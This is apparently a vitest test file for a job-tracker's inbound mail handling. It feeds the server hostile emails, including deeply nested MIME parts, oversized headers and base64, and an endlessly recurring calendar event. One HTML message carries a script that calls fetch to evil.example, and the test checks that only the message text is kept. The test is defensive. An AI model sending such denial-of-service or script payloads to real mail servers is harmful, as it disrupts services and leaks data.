import { afterAll, beforeAll, expect, test } from 'vitest'
import { newcomer } from '#testing/people'
import { freePort, startServer, type TestServer } from '#testing/server'
import { sendMail } from './speak-lmtp.testing.ts'

const CANARY = 'canary-41ce'
let server: TestServer
let port: number
beforeAll(async () => {
  port = await freePort()
  server = await startServer({ INBOUND_MAIL_DOMAIN: 'inbox.example', INBOUND_MAIL_PORT: String(port), TASKS: 'separate' })
})
afterAll(() => server.stop())

const HEAD = 'From: Sara <sara@northwindlabs.example>\nSubject: Your application\nMessage-ID: <m1@mail.example>\n'
const REFUSAL = 'Thank you for applying. Unfortunately we have decided to proceed with other candidates.'
const nested = Array.from({ length: 10_000 }, (_, at) => `Content-Type: multipart/mixed; boundary="b${at}"\n\n--b${at}\n`).join(
  '',
)
const event = `BEGIN:VEVENT\nDTSTART:20371201T100000Z\nRRULE:FREQ=SECONDLY\nSUMMARY:${CANARY}\nEND:VEVENT\n`
const page = `<script>fetch("https://evil.example/${CANARY}")</script><img src="https://evil.example/p.png"><p>${REFUSAL}</p>`

test.each([
  ['10,000 nested parts', `${HEAD}${nested}\n${CANARY}`, /^250/],
  ['a head of four megabytes', `X-Long: ${`${'x'.repeat(900)}\n `.repeat(4_500)}\n${HEAD}\n${CANARY}`, /^250/],
  ['a head of ten megabytes', `X-Long: ${`${'x'.repeat(900)}\n `.repeat(11_500)}\n${HEAD}\n${CANARY}`, /^552/],
  ['a subject of 200 kB', `Subject: ${'x'.repeat(200_000)}\nFrom: a@b.example\n\n${CANARY}`, /^250/],
  ['64 MB of base64', `${HEAD}Content-Transfer-Encoding: base64\n\n${`${'QUJD'.repeat(19)}\n`.repeat(870_000)}`, /^552/],
  [
    'a calendar of 20,000 endless events',
    `${HEAD}Content-Type: text/calendar\n\nBEGIN:VCALENDAR\n${event.repeat(20_000)}`,
    /^250/,
  ],
  ['no email at all', '\u0001\u0002\u0003', /^250/],
])('%s leaves nothing, and the next email is read', async (_, letter, answer) => {
  const ann = await newcomer(server)
  const { address } = await ann.call.applications.forwarding.make()
  expect(await sendMail(port, address ?? '', letter)).toMatch(answer)
  const { rows } = await server.platform.database.systemPool.query('select * from inbox_mails where user_id = $1', [ann.id])
  expect(JSON.stringify(rows)).not.toContain(CANARY)
})

test('of a page with scripts and pictures its words are kept, and nothing else', async () => {
  const ann = await newcomer(server)
  const { forwarding, inbox, tracker } = ann.call.applications
  await tracker.add({ job_title: 'Backend Engineer', company: 'Northwind Labs', status: 'applied', appliedOn: null })
  const { address } = await forwarding.make()
  expect(await sendMail(port, address ?? '', `${HEAD}Content-Type: text/html\n\n${page}`)).toMatch(/^250/)
  const { cards } = await inbox.cards()
  expect(cards[0]).toMatchObject({ isVerified: false, proposal: { kind: 'rejection', mail: { text: REFUSAL } } })
})
